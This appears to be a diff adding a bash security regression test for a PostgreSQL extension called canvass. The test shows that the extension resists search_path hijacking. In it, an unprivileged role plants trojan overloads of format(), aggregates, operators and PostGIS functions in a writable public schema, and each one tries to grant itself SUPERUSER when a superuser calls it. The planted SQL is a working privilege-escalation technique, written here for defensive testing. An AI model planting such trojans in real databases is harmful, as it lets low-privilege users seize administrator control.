@@ -1,0 +1,194 @@
+#!/usr/bin/env bash
+# Attack: an unprivileged role plants trojans where a superuser's install,
+# update or use of canvass could resolve a name to them, and must gain
+# nothing.
+#
+# mallory has CREATE on schema public (as in every database upgraded from
+# PostgreSQL 14 or older, where public is writable by all) and CREATE on the
+# database.  She plants, in public: format() with 3, 4 and 5 text arguments
+# (which match better than pg_catalog.format(text, VARIADIC "any")),
+# array_agg and sum overloads, operators = and || on argument types that
+# pg_catalog resolves only through a cast, st_* overloads, and overloads of
+# canvass's own names with integer and numeric argument types.  Each trojan
+# logs to a table and tries ALTER ROLE mallory SUPERUSER as whoever runs it,
+# then returns the right answer, as a real one would.  A superuser then
+# creates canvass, updates it from each earlier release, and runs every
+# README example.  Pass: the log stays empty and mallory is no superuser.
+# A second database shows that a canvass schema created by mallory before
+# the install is refused (42501), with her overload never installed beside
+# canvass's functions.
+set -u
+. "$(dirname "$0")/tap.sh"
+db=canvass_attack
+readme=${README:-README.md}
+# The test's own checks run with search_path = pg_catalog, so that they
+# cannot run a trojan themselves (an unqualified oid = regnamespace would).
+CHECK=(env PGOPTIONS="-c search_path=pg_catalog" "${PSQL[@]}")
+
+"${PSQL[@]}" -d postgres <<'SQL' >/dev/null
+DROP DATABASE IF EXISTS canvass_attack;
+DROP DATABASE IF EXISTS canvass_attack_schema;
+DROP ROLE IF EXISTS mallory;
+CREATE ROLE mallory LOGIN NOSUPERUSER NOCREATEROLE NOCREATEDB;
+CREATE DATABASE canvass_attack;
+CREATE DATABASE canvass_attack_schema;
+GRANT CREATE ON DATABASE canvass_attack_schema TO mallory;
+SQL
+ok $? "a database, and mallory, a role with no privileges"
+
+# The administrator's set-up: PostGIS in public, public writable by all (as
+# before PostgreSQL 15), and a log that any role may append to.
+"${PSQL[@]}" -d "$db" <<'SQL' >/dev/null
+CREATE EXTENSION postgis;
+GRANT CREATE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.trojan_log (trojan text, run_by name DEFAULT current_user);
+GRANT INSERT ON public.trojan_log TO PUBLIC;
+SQL
+ok $? "PostGIS in a public schema that every role may write to"
+
+# mallory's trojans.  trojan(name) logs and tries to escalate; each planted
+# function calls it, then computes what the real one would.
+plant=$(cat <<'SQL'
+CREATE FUNCTION public.trojan(what text) RETURNS void LANGUAGE plpgsql AS $t$
+BEGIN
+  INSERT INTO public.trojan_log (trojan) VALUES (what);
+  BEGIN
+    EXECUTE 'ALTER ROLE mallory SUPERUSER';
+  EXCEPTION WHEN OTHERS THEN NULL;
+  END;
+END $t$;
+CREATE FUNCTION public.format(text, text) RETURNS text LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('format/2'); RETURN pg_catalog.format($1, $2); END $t$;
+CREATE FUNCTION public.format(text, text, text) RETURNS text LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('format/3'); RETURN pg_catalog.format($1, $2, $3); END $t$;
+CREATE FUNCTION public.format(text, text, text, text) RETURNS text LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('format/4'); RETURN pg_catalog.format($1, $2, $3, $4); END $t$;
+CREATE FUNCTION public.format(text, text, text, text, text) RETURNS text LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('format/5'); RETURN pg_catalog.format($1, $2, $3, $4, $5); END $t$;
+CREATE FUNCTION public.trojan_int_sfunc(integer[], integer) RETURNS integer[] LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('array_agg(integer)'); RETURN $1 || $2; END $t$;
+CREATE AGGREGATE public.array_agg(integer) (SFUNC = public.trojan_int_sfunc, STYPE = integer[]);
+CREATE FUNCTION public.trojan_text_sfunc(text[], text) RETURNS text[] LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('array_agg(text)'); RETURN $1 || $2; END $t$;
+CREATE AGGREGATE public.array_agg(text) (SFUNC = public.trojan_text_sfunc, STYPE = text[]);
+CREATE FUNCTION public.trojan_sum_sfunc(double precision, double precision[]) RETURNS double precision
+  LANGUAGE plpgsql AS $t$ BEGIN PERFORM public.trojan('sum(float8[])'); RETURN $1; END $t$;
+CREATE AGGREGATE public.sum(double precision[]) (SFUNC = public.trojan_sum_sfunc, STYPE = double precision);
+CREATE FUNCTION public.trojan_eq(integer, numeric) RETURNS boolean LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('integer = numeric'); RETURN $1::numeric OPERATOR(pg_catalog.=) $2; END $t$;
+CREATE OPERATOR public.= (LEFTARG = integer, RIGHTARG = numeric, FUNCTION = public.trojan_eq);
+CREATE FUNCTION public.trojan_eq_ns(oid, regnamespace) RETURNS boolean LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('oid = regnamespace'); RETURN $1 OPERATOR(pg_catalog.=) $2::oid; END $t$;
+CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regnamespace, FUNCTION = public.trojan_eq_ns);
+CREATE FUNCTION public.trojan_cat(text, integer) RETURNS text LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('text || integer'); RETURN $1 OPERATOR(pg_catalog.||) $2::text; END $t$;
+CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = integer, FUNCTION = public.trojan_cat);
+CREATE FUNCTION public.st_setsrid(geometry, bigint) RETURNS geometry LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('st_setsrid(geometry, bigint)'); RETURN public.st_setsrid($1, $2::integer); END $t$;
+CREATE FUNCTION public.st_transform(geometry, bigint) RETURNS geometry LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('st_transform(geometry, bigint)'); RETURN public.st_transform($1, $2::integer); END $t$;
+CREATE FUNCTION public.st_makepoint(numeric, numeric) RETURNS geometry LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('st_makepoint(numeric, numeric)'); RETURN public.st_makepoint($1::float8, $2::float8); END $t$;
+CREATE FUNCTION public.st_pointonsurface(text) RETURNS geometry LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('st_pointonsurface(text)'); RETURN public.st_pointonsurface($1::geometry); END $t$;
+CREATE FUNCTION public.apportion(integer, integer[]) RETURNS bigint[] LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('apportion(integer, integer[])'); RETURN NULL; END $t$;
+CREATE FUNCTION public.apportion(numeric, numeric[]) RETURNS bigint[] LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('apportion(numeric, numeric[])'); RETURN NULL; END $t$;
+CREATE FUNCTION public.win_number(integer) RETURNS bigint LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('win_number(integer)'); RETURN NULL; END $t$;
+CREATE FUNCTION public.win_number(numeric) RETURNS bigint LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('win_number(numeric)'); RETURN NULL; END $t$;
+CREATE FUNCTION public.vote_goal(integer, numeric) RETURNS bigint LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('vote_goal(integer, numeric)'); RETURN NULL; END $t$;
+CREATE FUNCTION public.logit_score(jsonb, integer[]) RETURNS double precision LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('logit_score(jsonb, integer[])'); RETURN NULL; END $t$;
+CREATE FUNCTION public.trojan_et_sfunc(numeric, numeric) RETURNS numeric LANGUAGE plpgsql AS
+  $t$ BEGIN PERFORM public.trojan('expected_turnout(numeric)'); RETURN $1; END $t$;
+CREATE AGGREGATE public.expected_turnout(numeric) (SFUNC = public.trojan_et_sfunc, STYPE = numeric);
+SQL
+)
+"${PSQL[@]}" -d "$db" -c "SET ROLE mallory" -c "$plant" >/dev/null
+ok $? "mallory plants her trojans in public"
+
+# The trojans are armed: a superuser's unqualified format() with three text
+# arguments runs one, which is what the 0.2.0 install script did 174 times.
+"${PSQL[@]}" -d "$db" -c "SELECT format('%s-%s', 'a'::text, 'b'::text)" >/dev/null
+is "$("${CHECK[@]}" -d "$db" -c "SELECT count(*) FROM public.trojan_log WHERE trojan = 'format/3'")" 1 \
+   "the trojans are armed: an unqualified format() as superuser runs one"
+is "$("${CHECK[@]}" -d "$db" -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'")" t \
+   "... and it makes mallory a superuser, which is what is at stake"
+"${CHECK[@]}" -d "$db" -c "ALTER ROLE mallory NOSUPERUSER" -c "TRUNCATE public.trojan_log" >/dev/null
+
+log_is_empty() {
+    is "$("${CHECK[@]}" -d "$db" -c "SELECT coalesce(string_agg(DISTINCT trojan, ', '), 'none') FROM public.trojan_log")" none "$1: no trojan ran"
+    is "$("${CHECK[@]}" -d "$db" -c "SELECT rolsuper OR rolcreaterole OR rolcreatedb OR rolbypassrls FROM pg_roles WHERE rolname = 'mallory'")" f \
+       "$1: mallory gained no role attribute"
+    is "$("${CHECK[@]}" -d "$db" -c "SELECT count(*) FROM pg_auth_members m JOIN pg_roles r ON r.oid = m.member WHERE r.rolname = 'mallory'")" 0 \
+       "$1: mallory was granted no role"
+}
+
+# 1. A fresh install, as the README says.
+"${PSQL[@]}" -d "$db" -c "CREATE EXTENSION canvass CASCADE" >/dev/null
+ok $? "CREATE EXTENSION canvass CASCADE with the trojans in place"
+log_is_empty "install"
+is "$("${CHECK[@]}" -d "$db" -c "SELECT count(*) FROM pg_proc WHERE pronamespace = 'canvass'::regnamespace AND proowner <> (SELECT oid FROM pg_roles WHERE rolname = current_user)")" 0 \
+   "every function in schema canvass belongs to the installing role"
+is "$("${CHECK[@]}" -d "$db" -c "SELECT has_schema_privilege('mallory', 'canvass', 'CREATE')")" f \
+   "mallory cannot create objects in schema canvass"
+
+# 2. Every README example, run by the superuser with the default search_path
+#    ("$user", public: the trojans' schema).  Examples that need the reader's
+#    own tables fail, and that is fine; the log says whether a trojan ran.
+#    Each statement of each sql block runs on its own (ON_ERROR_STOP off).
+awk '/^```sql$/ {inside = 1; next} /^```$/ {if (inside) print "-- end of example"; inside = 0; next} inside' "$readme" >"$TEST_TMP/readme_examples.sql"
+blocks=$(grep -c '^-- end of example$' "$TEST_TMP/readme_examples.sql")
+[ "$blocks" -ge 20 ]
+ok $? "README has its sql examples ($blocks blocks)"
+"$PG_BIN/psql" -X -q -d "$db" -v ON_ERROR_STOP=0 -f "$TEST_TMP/readme_examples.sql" >"$TEST_TMP/readme_examples.out" 2>&1
+ran=$(grep -c . "$TEST_TMP/readme_examples.out")
+[ "$ran" -gt 0 ]
+ok $? "the README examples ran ($ran lines of output)"
+is "$("${CHECK[@]}" -d "$db" -c "SELECT canvass.apportion(101, ARRAY[1, 1, 1])")" "{34,34,33}" \
+   "README's first example gives its documented answer beside public.apportion(integer, integer[])"
+log_is_empty "every README example"
+
+# 3. Updates from every earlier release, with the trojans in place.
+for v in $(ls sql/canvass--*.sql | sed -n 's|^sql/canvass--\([0-9.]*\)\.sql$|\1|p' | sort -V); do
+    current=$(sed -n "s/^default_version = '\(.*\)'/\1/p" canvass.control)
+    [ "$v" = "$current" ] && continue
+    "${PSQL[@]}" -d "$db" -c "DROP EXTENSION canvass" -c "CREATE EXTENSION canvass VERSION '$v'" >/dev/null
+    ok $? "install release $v beside the trojans"
+    "${PSQL[@]}" -d "$db" -c "ALTER EXTENSION canvass UPDATE" >/dev/null
+    ok $? "ALTER EXTENSION canvass UPDATE from $v"
+    log_is_empty "update from $v"
+done
+
+# 4. A canvass schema that mallory created before the install, with an
+#    overload of canvass's first function in it, is refused.
+"${PSQL[@]}" -d canvass_attack_schema -c "CREATE EXTENSION postgis" >/dev/null
+"${PSQL[@]}" -d canvass_attack_schema -c "SET ROLE mallory" -c "CREATE SCHEMA canvass" \
+    -c "CREATE FUNCTION canvass.apportion(integer, integer[]) RETURNS bigint[] LANGUAGE sql AS 'SELECT NULL::bigint[]'" >/dev/null
+ok $? "mallory creates schema canvass first, with an overload in it"
+err=$("$PG_BIN/psql" -X -q -d canvass_attack_schema -v ON_ERROR_STOP=1 -v VERBOSITY=verbose \
+      -c "\\set VERBOSITY verbose" -c "CREATE EXTENSION canvass CASCADE" 2>&1 >/dev/null)
+printf '%s' "$err" | grep -q '42501' && printf '%s' "$err" | grep -q 'schema "canvass" already exists and is owned by role "mallory"'
+ok $? "the install refuses her schema with 42501 and says whose it is"
+printf '%s' "$err" | grep -q 'HINT:'
+ok $? "... with a hint"
+is "$("${CHECK[@]}" -d canvass_attack_schema -c "SELECT count(*) FROM pg_extension WHERE extname = 'canvass'")" 0 \
+   "canvass is not installed there"
+
+# Her schema handed to the superuser, her function is still there: refused too.
+"${PSQL[@]}" -d canvass_attack_schema -c "ALTER SCHEMA canvass OWNER TO postgres" >/dev/null
+err=$("${PSQL[@]}" -d canvass_attack_schema -c "CREATE EXTENSION canvass CASCADE" 2>&1 >/dev/null)
+printf '%s' "$err" | grep -q 'already holds functions of role "mallory"'
+ok $? "a superuser's schema holding a function of mallory's is refused"
+
+# A superuser's own empty schema made ahead of time is fine.
+"${PSQL[@]}" -d canvass_attack_schema -c "DROP SCHEMA canvass CASCADE" -c "CREATE SCHEMA canvass" \
+    -c "CREATE EXTENSION canvass CASCADE" >/dev/null 2>&1
+ok $? "an empty schema made by a superuser ahead of the install is accepted"
+
+"${PSQL[@]}" -d postgres -c "DROP DATABASE $db" -c "DROP DATABASE canvass_attack_schema" -c "DROP ROLE mallory" >/dev/null
+done_testing
